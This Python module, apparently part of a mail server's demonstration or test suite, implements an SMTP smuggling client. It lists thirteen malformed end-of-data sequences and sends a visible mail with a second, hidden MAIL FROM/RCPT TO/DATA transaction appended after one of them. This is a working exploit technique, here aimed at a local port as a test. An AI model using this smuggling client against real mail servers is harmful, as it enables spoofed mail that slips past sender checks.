"""SMTP smuggling: a client that hides a second mail behind a line end that two servers see differently."""

import asyncio
import itertools

from front_end_scene import STRANGER

from postfax.demonstration.world import DOMAIN, SENDER

SMUGGLING = {
    "LF . LF": b"\n.\n",
    "LF . CRLF": b"\n.\r\n",
    "CRLF . LF": b"\r\n.\n",
    "CR . CR": b"\r.\r",
    "CR . CRLF": b"\r.\r\n",
    "CRLF . CR": b"\r\n.\r",
    "CRCRLF . CRLF": b"\r\r\n.\r\n",
    "CRLF . CRCRLF": b"\r\n.\r\r\n",
    "LFCR . CRLF": b"\n\r.\r\n",
    "CRLF NUL . CRLF": b"\r\n\x00.\r\n",
    "CRLF . NUL CRLF": b"\r\n.\x00\r\n",
    "NEL . NEL": b"\x85.\x85",
    "VT . VT": b"\x0b.\x0b",
}
"""What stands between the mail that is seen and the one that is hidden."""
HIDDEN = f"hidden@{DOMAIN}"
_SECONDS = 60
_numbers = itertools.count(1)


async def smuggle(port: int, ending: bytes) -> str:
    """Send a mail to a new address with another one hidden in it, to `HIDDEN`; the new address."""
    seen = f"seen-{next(_numbers)}@{DOMAIN}"
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(STRANGER, 0))
    await reader.readline()
    for command in ("EHLO pc.hospital.example", f"MAIL FROM:<{SENDER}>", f"RCPT TO:<{seen}>", "DATA"):
        writer.write(f"{command}\r\n".encode())
        reply = await _reply(reader)
    assert reply.startswith(b"354")
    hidden = f"MAIL FROM:<{SENDER}>\r\nRCPT TO:<{HIDDEN}>\r\nDATA\r\n".encode()
    writer.write(_mail("seen") + ending + hidden + _mail("hidden") + b"\r\n.\r\nQUIT\r\n")
    async with asyncio.timeout(_SECONDS):
        await reader.read()
    writer.close()
    return seen


def _mail(name: str) -> bytes:
    return f"From: {SENDER}\r\nMessage-ID: <{name}@hospital.example>\r\n\r\nA mail.".encode()


async def _reply(reader: asyncio.StreamReader) -> bytes:
    while (line := await reader.readline())[3:4] == b"-":
        pass
    return line
